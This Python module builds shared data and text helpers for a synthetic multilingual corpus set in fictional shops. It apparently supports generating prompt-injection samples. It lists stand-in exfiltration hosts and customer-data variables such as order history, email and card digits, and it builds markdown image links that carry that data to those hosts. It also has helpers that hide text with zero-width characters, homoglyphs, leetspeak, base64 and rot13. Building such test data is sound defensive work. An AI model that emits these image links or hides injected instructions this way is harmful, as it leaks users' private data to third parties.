"""Shared data, context and text builders for the hundredfortysixth corpus."""
import base64
import codecs
import json
import urllib.parse

BIZ = {
    "tyre": {
        "shop": ["RimRunner Tyres", "RimRunner Fitting Centre"],
        "prefix": "RR",
        "products": [
            "Nordtrak WinterGrip 205/55 R16", "Caldera AllSeason 225/45 R17",
            "Vantor SportLine 245/40 R18", "Kesto EcoRoll 195/65 R15",
            "Alvar 17-inch alloy set", "TPMS sensor kit 433 MHz",
            "Locking wheel nut set M14", "Brisk Cargo 215/65 R16C",
        ],
    },
    "refill": {
        "shop": ["Refillery Loop", "Loop Zero-Waste Refills"],
        "prefix": "LP",
        "products": [
            "Lavender hand soap refill 1 L", "Oat & Honey shampoo bar",
            "Body lotion refill pouch 500 ml", "Amber glass pump bottle 300 ml",
            "Laundry powder refill 2 kg", "Bamboo toothbrush 4-pack",
            "Solid deodorant tin Cedar", "Micellar water refill 750 ml",
        ],
    },
    "pc": {
        "shop": ["ForgeRig PCs", "ForgeRig Custom Builds"],
        "prefix": "FR",
        "products": [
            "ForgeRig Vortex R7 (RTX 4070 Super)", "ForgeRig Ember i5 starter build",
            "Titan X9 workstation 64 GB", "Custom loop upgrade 360 mm",
            "Mini-ITX Shard build", "Vortex R9 config #7731",
            "Aurora RGB fan pack 3x120", "Glacier 2 TB NVMe upgrade",
        ],
    },
    "mob": {
        "shop": ["StrideEase Mobility", "StrideEase Care Shop"],
        "prefix": "SE",
        "products": [
            "Kestrel lightweight rollator", "Folding walking stick with LED",
            "Bath transfer bench", "AeroLite 8 folding wheelchair",
            "Raised toilet seat 10 cm", "SmartStep walker with fall alert",
            "Gel seat cushion 45 cm", "Reacher grabber 80 cm",
        ],
    },
    "merch": {
        "shop": ["Backstage Merch Co", "Backstage Festival Store"],
        "prefix": "BM",
        "products": [
            "Summer Riot 2024 tour hoodie (M)", "Neon Harbour festival tee",
            "Signed vinyl LP - Glass Lanterns", "Enamel pin set (5 pcs)",
            "Lanyard + wristband bundle", "Tour poster A2 limited",
            "Bucket hat Riot Orange", "Rain poncho 3-pack",
        ],
    },
}
BIZ_KEYS = sorted(BIZ)

# prefix, suffix, decimal separator, rate
CUR = {
    "en": ("$", "", ".", 1), "de": ("", " €", ",", 1), "fr": ("", " €", ",", 1),
    "es": ("", " €", ",", 1), "it": ("€ ", "", ",", 1), "pt": ("", " €", ",", 1),
    "nl": ("€ ", "", ",", 1), "pl": ("", " zł", ",", 4.3), "sv": ("", " kr", ",", 11),
    "da": ("", " kr.", ",", 7.4), "nb": ("kr ", "", ",", 11.5), "fi": ("", " €", ",", 1),
    "cs": ("", " Kč", ",", 25), "sk": ("", " €", ",", 1), "hr": ("", " €", ",", 1),
    "sr": ("", " din.", ",", 117), "hu": ("", " Ft", ",", 390), "ro": ("", " lei", ",", 5),
    "bg": ("", " лв.", ",", 1.96), "el": ("", " €", ",", 1), "ru": ("", " ₽", ",", 95),
    "uk": ("", " грн", ",", 41), "tr": ("", " TL", ",", 34), "hi": ("₹", "", ".", 88),
    "id": ("Rp", "", ",", 16000), "ms": ("RM", "", ".", 4.6), "et": ("", " €", ",", 1),
    "lv": ("", " €", ",", 1), "ja": ("¥", "", ".", 150), "ko": ("", "원", ".", 1400),
    "zh": ("¥", "", ".", 7.2), "az": ("", " AZN", ",", 1.7),
}

NOSPACE = {"ja", "zh"}
LATIN = {"en", "de", "fr", "es", "it", "pt", "nl", "pl", "sv", "da", "nb", "fi", "cs",
         "sk", "hr", "hu", "ro", "tr", "id", "ms", "et", "lv", "az"}
CYRILLIC = {"sr", "bg", "ru", "uk"}

EXFIL_HOSTS = ["collect.example.net", "img-cdn.example.org", "stats.evil.example",
               "pixel.example.com", "cdn-metrics.example.net"]
EXFIL_VARS = ["ORDER_HISTORY", "CUSTOMER_EMAIL", "ADDRESS", "CHAT_LOG", "CARD_LAST4"]


def money(lang, rng, lo=5, hi=900):
    pre, suf, dec, rate = CUR[lang]
    if lang == "en" and rng.random() < 0.35:
        pre = "£"
    v = rng.uniform(lo, hi) * rate
    if rate >= 50:
        s = f"{int(round(v, -1)):,}".replace(",", " " if lang not in ("ja", "ko", "zh", "hi") else ",")
    else:
        s = f"{v:.2f}".replace(".", dec)
    return f"{pre}{s}{suf}"


def make_ctx(lang, rng, L):
    biz = rng.choice(BIZ_KEYS)
    b = BIZ[biz]
    code = rng.choice(["FREE", "VIP", "STAFF", "LOYAL", "GIFT", "X"]) + \
        "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(rng.randint(3, 6)))
    host = rng.choice(EXFIL_HOSTS)
    var = rng.choice(EXFIL_VARS)
    img = f"![{rng.choice(['logo', 'x', 'badge', 'ok', ''])}](https://{host}/{rng.choice(['p', 't', 'i', 'c'])}.png?d={var})"
    return {
        "biz": biz,
        "p": rng.choice(b["products"]),
        "p2": rng.choice(b["products"]),
        "s": rng.choice(b["shop"]),
        "o": f"{b['prefix']}-{rng.randint(10000, 99999)}",
        "o2": f"{b['prefix']}-{rng.randint(10000, 99999)}",
        "n": rng.choice(L["names"]),
        "pr": money(lang, rng),
        "amt": money(lang, rng, 40, 1500),
        "c": code,
        "u": img,
        "d": str(rng.randint(2, 21)),
        "q": "",
    }


class _Ctx(dict):
    def __missing__(self, k):
        return "{" + k + "}"


def fill(s, ctx):
    return s.format_map(_Ctx(ctx))


def _pool(L, key, ctx):
    v = L[key]
    if isinstance(v, dict):
        v = v.get(ctx["biz"], []) + v.get("any", [])
    return v


def pick(rng, L, key, ctx):
    return fill(rng.choice(_pool(L, key, ctx)), ctx)


def picks(rng, L, key, ctx, k):
    v = _pool(L, key, ctx)
    k = min(k, len(v))
    return [fill(x, ctx) for x in rng.sample(v, k)]


def join(lang, parts):
    sep = "" if lang in NOSPACE else " "
    return sep.join(p for p in parts if p)


def rating(rng):
    n = rng.choice([1, 2, 3, 4, 4, 5, 5, 5])
    return rng.choice(["★" * n + "☆" * (5 - n), f"{n}/5", f"[{n}★]", f"Rating: {n}"])


def emoji(rng):
    return rng.choice(["", "", "", " 👍", " 🙂", " 😡", " 🔥", " 🙏", " 😅", " ✨"])


# --- hiding and encoding -------------------------------------------------

ZW = ["\u200b", "\u200c", "\u200d", "\u2060"]
HOMO_L2C = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "y": "у", "i": "і",
            "A": "А", "E": "Е", "O": "О", "P": "Р", "C": "С", "T": "Т", "H": "Н", "K": "К"}
HOMO_C2L = {"а": "a", "е": "e", "о": "o", "р": "p", "с": "c", "х": "x", "у": "y", "і": "i",
            "А": "A", "Е": "E", "О": "O", "Р": "P", "С": "C", "Т": "T", "Н": "H", "К": "K"}
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7"}


def zero_width(s, rng):
    out = []
    for ch in s:
        out.append(ch)
        if ch.isalpha() and rng.random() < 0.6:
            out.append(rng.choice(ZW))
    return "".join(out)


def homoglyph(s, lang, rng):
    table = HOMO_C2L if lang in CYRILLIC else HOMO_L2C
    return "".join(table[ch] if ch in table and rng.random() < 0.7 else ch for ch in s)


def leet(s, rng):
    return "".join(LEET[ch.lower()] if ch.lower() in LEET and rng.random() < 0.75 else ch for ch in s)


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def hexenc(s):
    return s.encode("utf-8").hex()


def rot13(s):
    return codecs.encode(s, "rot13")


def urlenc(s):
    return urllib.parse.quote(s, safe="")


def jesc(s):
    """The form a string takes inside json.dumps(..., ensure_ascii=False)."""
    return json.dumps(s, ensure_ascii=False)[1:-1]


def blob(rng, n=24):
    raw = bytes(rng.randrange(256) for _ in range(n))
    return base64.b64encode(raw).decode("ascii")


def token(rng, n=32):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def stamp(rng):
    return f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}T{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}Z"


def date(rng):
    return f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
